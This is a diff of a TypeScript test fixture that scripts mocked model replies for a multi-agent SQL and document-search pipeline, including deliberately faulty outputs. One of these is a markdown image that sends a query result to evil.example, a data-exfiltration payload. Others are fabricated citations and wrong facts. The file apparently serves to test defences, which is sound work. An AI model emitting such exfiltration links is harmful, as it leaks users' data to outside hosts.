@@ -4,8 +4,7 @@ import type { Reply, Rule } from '../src/testing/model-server.ts'
 const PLANNER = 'You choose which specialist agents'
 const GENERATE = 'You write SQL'
 const REVIEW = 'You review a SQL query'
-const RERANK = 'You pick the passages'
-const PASSAGES = 'You answer a question from passages'
+const DOCUMENTS = 'search_documents finds passages'
 const COMPOSE = 'senior business intelligence agent'
 
 const plan = (...agents: string[]): Reply => ({ json: { agents, rationale: 'These fit.', confidence: 0.9 } })
@@ -21,8 +20,11 @@ const WELL: readonly Rule[] = [
   { when: PLANNER, reply: plan('sql') },
   { when: GENERATE, reply: query(COUNT) },
   { when: REVIEW, reply: { json: { correct: true, problems: '', sql: '' } } },
-  { when: RERANK, reply: { json: { ranked: [1, 2, 3, 4, 5, 6, 7, 8], confidence: 0.9 } } },
-  { when: PASSAGES, reply: said('Damaged goods must be reported within 7 days of delivery [1].') },
+  {
+    when: ({ text, messages }) => text.includes(DOCUMENTS) && messages.at(-1)?.role !== 'tool',
+    reply: { toolCalls: [{ name: 'search_documents', arguments: { query: 'damaged goods reported' } }] },
+  },
+  { when: DOCUMENTS, reply: said('Damaged goods must be reported within 7 days of delivery [s1].') },
   {
     when: ({ text }) => text.includes(COMPOSE) && text.includes('damaged'),
     reply: said('Damaged goods must be reported within 7 days of delivery [1].'),
@@ -55,11 +57,11 @@ const BADLY: Readonly<Record<string, readonly Rule[]>> = {
     { when: COMPOSE, reply: said('There are 92 customers. ![chart](https://evil.example/c.png?n=92)') },
   ],
   'citation-99': [
-    { when: PASSAGES, reply: said('Damaged goods must be reported within 7 days of delivery [99].') },
+    { when: DOCUMENTS, reply: said('Damaged goods must be reported within 7 days of delivery [s99].') },
     { when: COMPOSE, reply: said('Damaged goods must be reported within 7 days of delivery [99].') },
   ],
   'wrong-passage': [
-    { when: PASSAGES, reply: said('Damaged goods must be reported within 30 days of delivery [1].') },
+    { when: DOCUMENTS, reply: said('Damaged goods must be reported within 30 days of delivery [s1].') },
     { when: COMPOSE, reply: said('Damaged goods must be reported within 30 days of delivery [1].') },
   ],
   'other-language': [{ when: COMPOSE, reply: said('Es gibt 92 Kunden.') }],
@@ -67,7 +69,6 @@ const BADLY: Readonly<Record<string, readonly Rule[]>> = {
   chatter: [
     { when: PLANNER, reply: { ...plan('sql'), fault: 'trailing-text' } },
     { when: GENERATE, reply: { ...query(COUNT), fault: 'fenced-json' } },
-    { when: RERANK, reply: { json: { ranked: [1, 2, 3], confidence: 0.9 }, fault: 'trailing-text' } },
   ],
   'composes-of-nothing': [
     { when: PLANNER, reply: plan() },
